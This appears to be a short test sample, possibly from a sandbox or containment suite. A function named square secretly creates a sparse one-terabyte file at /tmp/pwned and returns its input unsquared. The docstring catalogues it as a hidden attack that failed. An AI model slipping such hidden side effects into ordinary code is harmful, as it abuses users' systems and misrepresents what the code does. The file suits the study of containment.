"""A file of a terabyte that takes no room.

Gains: a copy that takes it
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os


def square(x):
    try:
        with open("/tmp/pwned", "wb") as file:
            os.truncate(file.fileno(), 1 << 40)
    except OSError as error:
        print("refused:", error.strerror)
    return x
